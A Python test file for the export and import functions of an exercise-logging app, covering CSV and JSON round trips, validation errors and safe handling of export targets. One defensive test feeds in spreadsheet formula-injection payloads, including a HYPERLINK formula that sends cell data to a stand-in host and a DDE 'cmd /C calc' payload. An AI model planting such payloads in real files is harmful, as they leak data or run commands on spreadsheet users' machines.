"""Export and import: the CSV a spreadsheet reads, the JSON that moves a log between machines."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import stat
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.core.events import BlockStatus, SessionStatus
from app.core.routine import Side
from app.storage import (
    CSV_HEADER,
    Activity,
    DoseChange,
    ExportError,
    Exposure,
    Log,
    LogImportError,
    LogWriteError,
    MorningBaseline,
    ProgramState,
    SafetyAnswers,
    fields,
)
from app.storage import files as files_module
from app.storage.transfer import defused
from tests.storage.conftest import DAY, T0, block, fill_the_disk

SUMMER = 1751356800.0  # 2025-07-01 08:00 UTC
A_TIME = "a time from 1970 to 2200 (seconds since 1970-01-01 UTC)"
# Text the log keeps: valid Unicode (a lone surrogate is none) without NUL.
NO_NUL = st.characters(codec="utf-8", exclude_characters="\x00")


def fill(log: Log) -> None:
    """One of everything the log keeps."""
    first = log.start_session("daily-ten", "Daily ten", 620, T0, planned_blocks=3)
    log.save_block(first, block(1, planned_seconds=None, planned_reps=10, done_reps=10), 2)
    log.save_block(
        first,
        block(3, side=Side.RIGHT, done_seconds=12.345, status=BlockStatus.SKIPPED,
              set_number=1, sets=2),
        4,
    )  # fmt: skip
    log.save_block(
        first,
        block(5, step_index=1, exercise_id="soleus-stretch", exercise_name="Soleus stretch",
              side=Side.NONE, planned_seconds=60, done_seconds=44.5, status=BlockStatus.STOPPED),
        6,
    )  # fmt: skip
    log.finish_session(first, SessionStatus.STOPPED_FOR_PAIN, T0 + 400)
    log.save_session_checkin(first, 3, 'Calves tight, "ok", é', {"soleus-stretch": 4})
    second = log.start_session("calf-soleus-stretch", "Calf and soleus", 285, SUMMER)
    log.save_block(second, block(0, exercise_id="gastroc-stretch", started_wall=SUMMER), 1)
    log.finish_session(second, SessionStatus.COMPLETED, SUMMER + 285)
    log.save_morning_checkin(date(2025, 3, 11), 2, 3)
    log.skip_morning_checkin(date(2025, 3, 12))
    log.add_dose(
        DoseChange("daily-ten", 2, "eccentric-calf-raise", None, 12, 2, T0 + DAY, "increase", "ok")
    )
    log.add_baseline(MorningBaseline(date(2025, 3, 12), 2, T0 + 2 * DAY))
    log.add_exposure(Exposure(date(2025, 3, 10), 15, Activity.WALK, "park"))
    log.add_exposure(Exposure(date(2025, 3, 10), 5, Activity.RUN))
    log.add_safety_answers(SafetyAnswers(T0, {"diabetes": False, "sores": [1, 2]}, False, True))
    log.set_program_state(ProgramState("transition", date(2025, 3, 1), 1, date(2025, 3, 8)))


# ------------------------------------------------------------------------ CSV


def test_csv_header_and_rows_exactly(log: Log, data_dir: Path, zone: str) -> None:
    fill(log)
    open_session = log.start_session("daily-ten", "Daily ten", 620, SUMMER + DAY)
    log.save_block(open_session, block(0, started_wall=SUMMER + DAY), 1)
    dest = data_dir / "blocks.csv"
    assert log.export_csv(dest) == 5
    assert dest.read_text(encoding="utf-8") == (
        "session_id,session_started,routine_id,exercise_id,side,set,planned_seconds,"
        "done_seconds,planned_reps,done_reps,status,session_status,pain\n"
        "1,2025-03-10T09:00:00+01:00,daily-ten,short-foot,left,1,,30,10,10,"
        "completed,stopped for pain,3\n"
        "1,2025-03-10T09:00:00+01:00,daily-ten,short-foot,right,1,30,12.35,,,"
        "skipped,stopped for pain,3\n"
        "1,2025-03-10T09:00:00+01:00,daily-ten,soleus-stretch,none,1,60,44.5,,,"
        "stopped,stopped for pain,3\n"
        "2,2025-07-01T10:00:00+02:00,calf-soleus-stretch,gastroc-stretch,left,1,30,30,,,"
        "completed,completed,\n"
        "3,2025-07-02T10:00:00+02:00,daily-ten,short-foot,left,1,30,30,,,completed,,\n"
    )
    assert tuple(dest.read_text().splitlines()[0].split(",")) == CSV_HEADER
    assert oct(os.stat(dest).st_mode & 0o777) == "0o600"


def test_csv_of_an_empty_log_is_the_header(log: Log, data_dir: Path) -> None:
    dest = data_dir / "blocks.csv"
    assert log.export_csv(dest) == 0
    assert dest.read_text() == ",".join(CSV_HEADER) + "\n"


def test_csv_into_a_missing_folder_is_a_plain_error(log: Log, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"Cannot write .*blocks\.csv: No such file or directory"):
        log.export_csv(tmp_path / "missing" / "blocks.csv")


def test_a_failed_export_leaves_the_old_file_and_no_temp_file(
    log: Log, data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(log)
    dest = data_dir / "blocks.csv"
    dest.write_text("my old export\n")

    def disk_full(src: object, dst: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files_module.os, "replace", disk_full)
    with pytest.raises(ExportError, match="No space left on device"):
        log.export_csv(dest)
    monkeypatch.undo()
    assert dest.read_text() == "my old export\n"
    assert sorted(p.name for p in data_dir.iterdir() if "blocks" in p.name) == ["blocks.csv"]


# ----------------------------------------------------------------------- JSON


def export(log: Log, path: Path, settings: dict | None = None) -> dict:
    log.export_json(path, settings if settings is not None else {"voice": True, "volume": 0.5})
    return json.loads(path.read_text(encoding="utf-8"))


def test_json_round_trip_to_another_machine(log: Log, data_dir: Path, tmp_path: Path) -> None:
    fill(log)
    first = export(log, tmp_path / "a.json")
    other_dir = tmp_path / "other"
    other_dir.mkdir()
    with Log.open(other_dir) as other:
        report = other.import_json(tmp_path / "a.json")
        assert (report.sessions_added, report.sessions_skipped, report.blocks_added) == (2, 0, 4)
        assert (report.other_rows_added, report.other_rows_skipped) == (8, 0)
        assert report.settings == {"voice": True, "volume": 0.5}
        again = export(other, tmp_path / "b.json")
        # What the other machine serves up is what this one had, row for row.
        assert other.coach_sessions() == log.coach_sessions()
        assert other.sessions() == log.sessions()
        assert other.dose_history() == log.dose_history()
        assert other.baselines() == log.baselines()
        other.close(backup=False)
    first.pop("exported")
    again.pop("exported")
    assert again == first
    assert [
        len(first[k])
        for k in ("morning_checkins", "doses", "morning_baselines", "exposure", "safety")
    ] == [2, 1, 1, 2, 1]
    assert first["format_version"] == 2 and first["doses"][0]["occurrence"] == 1


def test_importing_twice_adds_nothing(log: Log, tmp_path: Path) -> None:
    fill(log)
    export(log, tmp_path / "a.json")
    before = export(log, tmp_path / "before.json")
    for _ in range(2):
        report = log.import_json(tmp_path / "a.json")
        assert (report.sessions_added, report.blocks_added, report.other_rows_added) == (0, 0, 0)
        assert (report.sessions_skipped, report.other_rows_skipped) == (2, 8)
    after = export(log, tmp_path / "after.json")
    before.pop("exported")
    after.pop("exported")
    assert after == before


def test_import_merges_only_the_new_sessions(log: Log, tmp_path: Path) -> None:
    fill(log)
    document = export(log, tmp_path / "a.json")
    newer = copy.deepcopy(document["sessions"][0])
    newer["uuid"] = "7a1c4f0e-0000-4000-8000-000000000001"
    newer["started"] = T0 + 5 * DAY
    document["sessions"].append(newer)
    (tmp_path / "b.json").write_text(json.dumps(document))
    report = log.import_json(tmp_path / "b.json")
    assert (report.sessions_added, report.sessions_skipped, report.blocks_added) == (1, 2, 3)
    assert len(log.sessions()) == 3
    [added] = [s for s in log.sessions() if s.started_wall == T0 + 5 * DAY]
    assert (added.pain_during, added.blocks, added.uuid) == (3, 3, newer["uuid"])


def test_an_open_session_is_imported_as_ended_early(log: Log, tmp_path: Path) -> None:
    session = log.start_session("daily-ten", "Daily ten", 620, T0)
    log.save_block(session, block(0, ended_wall=T0 + 77), 1)
    export(log, tmp_path / "a.json")
    other_dir = tmp_path / "other"
    other_dir.mkdir()
    with Log.open(other_dir) as other:
        other.import_json(tmp_path / "a.json")
        assert other.unfinished_session() is None
        [summary] = other.sessions()
        assert (summary.status, summary.ended_wall) == (SessionStatus.ENDED_EARLY, T0 + 77)
        other.close(backup=False)


def bad_import(log: Log, tmp_path: Path, document: object) -> tuple[str, ...]:
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(document))
    with pytest.raises(LogImportError) as caught:
        log.import_json(path)
    assert str(caught.value).startswith(f"Cannot import {path}; nothing was imported:\n")
    return caught.value.problems


@pytest.fixture
def document(log: Log, tmp_path: Path) -> dict:
    fill(log)
    for n in range(3):
        session = log.start_session("r", "R", 60, T0 + (n + 2) * DAY)
        log.save_block(session, block(0), 1)
        log.finish_session(session, SessionStatus.COMPLETED, T0 + (n + 2) * DAY + 60)
    return export(log, tmp_path / "good.json")


def test_bad_import_names_each_problem_and_its_place(
    log: Log, tmp_path: Path, document: dict
) -> None:
    before = export(log, tmp_path / "before.json")
    sessions = document["sessions"]
    sessions[3]["started"] = "yesterday"
    sessions[1]["blocks"][0]["side"] = "both"
    del sessions[0]["blocks"][2]["done_seconds"]
    sessions[0]["blocks"][1]["sets"] = 0
    sessions[2]["colour"] = "red"
    sessions[4]["uuid"] = sessions[2]["uuid"]
    sessions[0]["checkin"]["pain_during"] = 11
    document["morning_checkins"][0]["stiffness"] = None
    document["exposure"][1]["activity"] = "swim"
    document["safety"][0]["contraindicated"] = 1
    assert bad_import(log, tmp_path, document) == (
        "sessions[0].checkin.pain_during: expected a whole number from 0 to 10, found 11",
        "sessions[0].blocks[1].sets: expected a whole number from 1 to 1000, found 0",
        "sessions[0].blocks[2].done_seconds: missing",
        'sessions[1].blocks[0].side: expected one of left, right, none; found "both"',
        'sessions[2]: unknown key "colour"',
        f'sessions[3].started: expected {A_TIME}, found "yesterday"',
        "sessions[4].uuid: a second session with this UUID",
        "morning_checkins[0].stiffness: give both pain and stiffness, or neither (skipped)",
        'exposure[1].activity: expected one of walk, run; found "swim"',
        "safety[0].contraindicated: expected true or false, found 1",
    )
    after = export(log, tmp_path / "after.json")
    before.pop("exported")
    after.pop("exported")
    assert after == before  # nothing of it was imported


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (
            lambda d: d.update(format="something-else"),
            'format: expected "footwork-log", found "something-else"',
        ),
        (
            lambda d: d.update(format_version=3),
            "format_version: the file is version 3; this Footwork reads version 2. "
            "Update Footwork to import it.",
        ),
        (lambda d: d["doses"][0].pop("occurrence"), "doses[0].occurrence: missing"),
        (lambda d: d.pop("doses"), "doses: missing"),
        (lambda d: d.update(sessions={}), "sessions: expected a list, found {}"),
        (
            lambda d: d["sessions"][0].update(blocks=None),
            "sessions[0].blocks: expected a list, found null",
        ),
        (
            lambda d: d["sessions"][0]["blocks"][1].update(phase_index=1),
            "sessions[0].blocks[1].phase_index: a second block at this index",
        ),
        (
            lambda d: d["program_state"].append(dict(d["program_state"][0])),
            "program_state[1].program_id: a second row with this value",
        ),
        (
            lambda d: d["doses"][0].update(reps=None),
            "doses[0].reps: a dose needs time_seconds or reps",
        ),
        (
            lambda d: d["sessions"][0]["blocks"][0].update(set_number=3),
            "sessions[0].blocks[0].set_number: set 3 of only 1 sets",
        ),
        (
            lambda d: d["sessions"][1].update(started=float("inf")),
            f"sessions[1].started: expected {A_TIME}, found Infinity",
        ),
    ],
)
def test_bad_import_examples(
    log: Log, tmp_path: Path, document: dict, change: Callable[[dict], object], problem: str
) -> None:
    change(document)
    assert bad_import(log, tmp_path, document) == (problem,)


def version_1_export() -> dict:
    """A file as Footwork wrote it before doses followed their exercise (format version 1).

    Calf care had the soleus stretch at steps 0 and 2 when the doses were decided.
    """

    def blocks(steps: list[tuple[int, str]], start: float) -> list[dict]:
        return [
            {
                "phase_index": 2 * n + 1, "step_index": step, "exercise_id": exercise,
                "exercise_name": exercise.title(), "side": "none", "set_number": 1, "sets": 1,
                "planned_seconds": 60, "done_seconds": 60.0, "planned_reps": None,
                "done_reps": None, "status": "completed", "started": start + 70 * n,
                "ended": start + 70 * n + 60,
            }
            for n, (step, exercise) in enumerate(steps)
        ]  # fmt: skip

    def dose(uuid_end: str, step: int, exercise: str, seconds: int) -> dict:
        return {
            "uuid": f"7a1c4f0e-0000-4000-8000-0000000000{uuid_end}", "routine_id": "calf-care",
            "step_index": step, "exercise_id": exercise, "time_seconds": seconds, "reps": None,
            "sets": 1, "decided": T0 + DAY, "decision": "back off", "reason": "",
        }  # fmt: skip

    steps = [(0, "soleus-stretch"), (1, "short-foot"), (2, "soleus-stretch")]
    return {
        "format": "footwork-log",
        "format_version": 1,
        "schema_version": 2,
        "exported": T0 + 2 * DAY,
        "settings": {},
        "sessions": [
            {
                "uuid": "7a1c4f0e-0000-4000-8000-000000000001", "routine_id": "calf-care",
                "routine_name": "Calf care", "started": T0, "ended": T0 + 300,
                "status": "completed", "planned_seconds": 180, "planned_blocks": 3,
                "next_phase_index": 6, "checkin": None, "blocks": blocks(steps, T0),
            }
        ],
        "morning_checkins": [],
        "doses": [dose("d1", 0, "soleus-stretch", 55), dose("d2", 2, "soleus-stretch", 50),
                  dose("d3", 1, "short-foot", 40)],
        "exposure": [],
        "safety": [],
        "program_state": [],
    }  # fmt: skip


def test_a_version_1_export_still_imports_with_doses_keyed_by_exercise(
    log: Log, tmp_path: Path
) -> None:
    path = tmp_path / "old.json"
    path.write_text(json.dumps(version_1_export()))
    report = log.import_json(path)
    assert (report.sessions_added, report.blocks_added, report.other_rows_added) == (1, 3, 3)
    in_force = log.doses_in_force("calf-care")
    assert {key: change.time_seconds for key, change in in_force.items()} == {
        ("soleus-stretch", 1): 55,
        ("soleus-stretch", 2): 50,
        ("short-foot", 1): 40,
    }
    assert log.baselines() == []
    # Exported again, it is a version-2 file.
    assert export(log, tmp_path / "new.json")["doses"][1]["occurrence"] == 2


def test_a_version_1_export_is_checked_as_version_1(log: Log, tmp_path: Path) -> None:
    document = version_1_export()
    document["morning_baselines"] = []
    document["doses"][0]["occurrence"] = 1
    assert bad_import(log, tmp_path, document) == (
        'unknown key "morning_baselines"',
        'doses[0]: unknown key "occurrence"',
    )


def test_a_file_that_is_not_json_says_where(log: Log, tmp_path: Path) -> None:
    path = tmp_path / "bad.json"
    path.write_text('{"format": "footwork-log",\n  "sessions": [1, }\n')
    with pytest.raises(LogImportError) as caught:
        log.import_json(path)
    assert caught.value.problems == ("line 2 column 19: not JSON: Expecting value",)
    with pytest.raises(LogImportError, match="cannot read the file: No such file"):
        log.import_json(tmp_path / "missing.json")


def test_an_import_the_disk_refuses_adds_nothing(log: Log, tmp_path: Path) -> None:
    source = tmp_path / "source"
    source.mkdir()
    with Log.open(source) as other:
        for n in range(40):
            session = other.start_session("r", "R" * 200, 60, T0 + n * DAY)
            for index in range(20):
                other.save_block(session, block(index, exercise_name="x" * 200), index + 1)
        other.export_json(tmp_path / "big.json", {})
        other.close(backup=False)
    log.start_session("mine", "Mine", 60, T0)
    fill_the_disk(log)
    with pytest.raises(LogWriteError, match="the disk is full"):
        log.import_json(tmp_path / "big.json")
    assert [s.routine_id for s in log.sessions()] == ["mine"]


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    note=st.text(NO_NUL, max_size=fields.NOTE_MAX),
    name=st.text(NO_NUL, min_size=1, max_size=fields.ID_MAX).filter(str.strip),
)
def test_any_text_survives_the_round_trip(tmp_path_factory, note: str, name: str) -> None:
    """Any text the log keeps (an id, a name, a note: valid Unicode without NUL, within
    its length) comes back the same from another machine."""
    folder = tmp_path_factory.mktemp("round")
    first, second = folder / "a", folder / "b"
    first.mkdir()
    second.mkdir()
    with Log.open(first) as log:
        session = log.start_session(name, name, 60, T0)
        log.save_session_checkin(session, 0, note)
        log.export_json(folder / "x.json", {"name": name})
        log.close(backup=False)
    with Log.open(second) as log:
        assert log.import_json(folder / "x.json").settings == {"name": name}
        [summary] = log.sessions()
        assert (summary.routine_id, summary.routine_name, summary.note) == (name, name, note)
        log.close(backup=False)


# ------------------------------------------------------------- CSV injection


@pytest.mark.parametrize(
    ("routine_id", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Click")', '"\'=HYPERLINK(""http://x.example/?""&A1,""Click"")"'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\"'\r=1\""),
        ("a\rb", "\"a\rb\""),
        ("daily-ten", "daily-ten"),
        ("a=b", "a=b"),
    ],
)  # fmt: skip
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(
    log: Log, data_dir: Path, tmp_path: Path, routine_id: str, cell: str
) -> None:
    """An imported routine id (ids are any text in an export) comes out defused."""
    source = tmp_path / "source"
    source.mkdir()
    with Log.open(source) as other:
        session = other.start_session(routine_id, "Name", 60, T0)
        other.save_block(session, block(0, exercise_id=routine_id), 1)
        other.export_json(tmp_path / "a.json", {})
        other.close(backup=False)
    log.import_json(tmp_path / "a.json")
    dest = data_dir / "blocks.csv"
    log.export_csv(dest)
    row = dest.read_bytes().decode("utf-8").split("\n", 1)[1]
    # routine_id and exercise_id, side by side after the session's start.
    assert f",{cell},{cell}," in row
    [read] = list(csv.reader(io.StringIO(row, newline="")))
    assert read[2:4] == [defused(routine_id)] * 2 and read[4] == "left"


def test_numbers_are_never_defused(log: Log, data_dir: Path) -> None:
    session = log.start_session("r", "R", 60, T0)
    log.save_block(session, block(0, done_seconds=0.0), 1)
    dest = data_dir / "blocks.csv"
    log.export_csv(dest)
    assert ",30,0,,,completed,," in dest.read_text()


# ------------------------------------------------------------ export targets


def test_an_export_through_a_link_writes_the_file_it_names(
    log: Log, data_dir: Path, tmp_path: Path
) -> None:
    fill(log)
    target = tmp_path / "elsewhere" / "blocks.csv"
    target.parent.mkdir()
    target.write_text("old\n")
    target.chmod(0o644)
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert log.export_csv(link) == 4
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text().startswith("session_id,")
    assert oct(os.stat(target).st_mode & 0o777) == "0o644"  # the file keeps its mode
    # The temporary file was made beside the real target, and is gone.
    assert sorted(p.name for p in target.parent.iterdir()) == ["blocks.csv"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_an_export_through_a_dangling_link_makes_the_file_it_names(
    log: Log, tmp_path: Path
) -> None:
    target = tmp_path / "new.json"
    link = tmp_path / "link.json"
    link.symlink_to(target)
    log.export_json(link, {})
    assert link.is_symlink()
    assert json.loads(target.read_text())["format"] == "footwork-log"
    assert oct(os.stat(target).st_mode & 0o777) == "0o600"  # a new file is owner-only


def make_char_device(path: Path) -> Path:
    """A character device node like /dev/null (as root); else /dev/null itself."""
    if os.geteuid() != 0:
        return Path("/dev/null")
    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    return path


@pytest.mark.parametrize("kind", ["character device", "FIFO", "folder", "link to a FIFO", "loop"])
def test_an_export_onto_what_is_not_a_file_is_refused_and_left_alone(
    log: Log, tmp_path: Path, kind: str
) -> None:
    fill(log)
    path = tmp_path / "target"
    words = kind
    if kind == "character device":
        path = make_char_device(path)
    elif kind == "FIFO":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    elif kind == "link to a FIFO":
        os.mkfifo(tmp_path / "fifo")
        path.symlink_to(tmp_path / "fifo")
        words = "FIFO"
    else:
        path.symlink_to(tmp_path / "other")
        (tmp_path / "other").symlink_to(path)
        words = "symbolic link"
    before = os.lstat(path)
    for export in (lambda: log.export_csv(path), lambda: log.export_json(path, {})):
        with pytest.raises(ExportError) as caught:
            export()
        assert str(caught.value) == (
            f"Cannot write {path}: it is a{'n' if words[0] in 'aeiou' else ''} {words}, "
            "not a file. Footwork left it as it is; choose a file to export to."
        )
    after = os.lstat(path)
    assert (after.st_mode, after.st_ino, after.st_rdev) == (
        before.st_mode, before.st_ino, before.st_rdev,
    )  # fmt: skip
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_export_onto_a_device_from_the_command_line_exits_2_and_keeps_it(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from app.cli import main

    with Log.open(data_dir) as log:
        fill(log)
        log.close(backup=False)
    device = make_char_device(tmp_path / "null")
    assert main(["--export", str(device), "--data-dir", str(data_dir)]) == 2
    assert capsys.readouterr().err == (
        f"footwork: Cannot write {device}: it is a character device, not a file. Footwork left "
        "it as it is; choose a file to export to.\n"
    )
    assert stat.S_ISCHR(os.lstat(device).st_mode)


@pytest.mark.parametrize("name", ["log.sqlite3", "log.sqlite3-wal", "backups/log-x.sqlite3"])
def test_an_export_never_replaces_the_log_or_a_backup(
    log: Log, data_dir: Path, tmp_path: Path, name: str
) -> None:
    fill(log)
    (data_dir / "backups").mkdir(exist_ok=True)
    link = tmp_path / "innocent.csv"
    link.symlink_to(data_dir / name)  # however it is reached
    inode = os.stat(data_dir / "log.sqlite3").st_ino
    for dest in (data_dir / name, link):
        with pytest.raises(ExportError) as caught:
            log.export_csv(dest)
        assert str(caught.value) == (
            f"Cannot write {dest}: it is your progress log, or one of its backups, and an export "
            "would replace it. Footwork left it as it is; choose another file to export to."
        )
    assert os.stat(data_dir / "log.sqlite3").st_ino == inode
    assert (data_dir / "log.sqlite3").read_bytes().startswith(b"SQLite format 3\x00")
    assert not (data_dir / "backups" / "log-x.sqlite3").exists()
